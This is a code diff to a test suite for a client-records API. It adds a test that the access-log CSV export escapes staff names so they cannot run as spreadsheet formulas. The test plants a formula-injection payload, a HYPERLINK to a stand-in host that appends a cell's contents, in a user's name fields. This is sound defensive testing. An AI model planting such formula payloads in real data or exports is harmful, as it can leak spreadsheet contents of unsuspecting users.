@@ -201,7 +201,7 @@ describe('clients', () => {
       method: 'GET',
       url: `/api/v1/clients/${client.id}/access-log?format=csv`,
     });
-    expect(csv.body).toContain(`"${name}"`);
+    expect(csv.body).toContain(`,${name},`);
   });
 
   describe('merging duplicates', () => {
@@ -257,6 +257,36 @@ describe('clients', () => {
       expect(log.json()).toMatchObject({
         entries: [expect.objectContaining({ staffId: clerk.person.id })],
       });
+    });
+
+    it('gives the access log as CSV in which a name cannot run as a spreadsheet formula', async () => {
+      const head = await signedIn(test, { roles: ['client_service_head'] });
+      const unit = await createUnit(test.services);
+      const looker = await signedIn(test, {
+        unitIds: [unit.id],
+        givenName: '=HYPERLINK("http://x.example/?"&A1',
+        surname: '"Klikšķini")',
+      });
+      const client = await test.services.clients.create(ctx, {
+        kind: 'person',
+        givenName: 'Ilze',
+        surname: `Formula${unique()}`,
+      });
+      await call(test.app, looker, { method: 'GET', url: `/api/v1/clients/${client.id}` });
+
+      const csv = await call(test.app, head, {
+        method: 'GET',
+        url: `/api/v1/clients/${client.id}/access-log?format=csv`,
+      });
+
+      expect(csv.statusCode, csv.body).toBe(200);
+      expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
+      const [header, line, end] = csv.body.split('\r\n');
+      expect(header).toBe('at,staff,token,request');
+      expect(line).toMatch(
+        /^\d{4}-\d\d-\d\dT[\d:.]+Z,"'=HYPERLINK\(""http:\/\/x\.example\/\?""&A1 ""Klikšķini""\)",,$/,
+      );
+      expect(end).toBe('');
     });
 
     it('refuses to merge a person into an organisation', async () => {
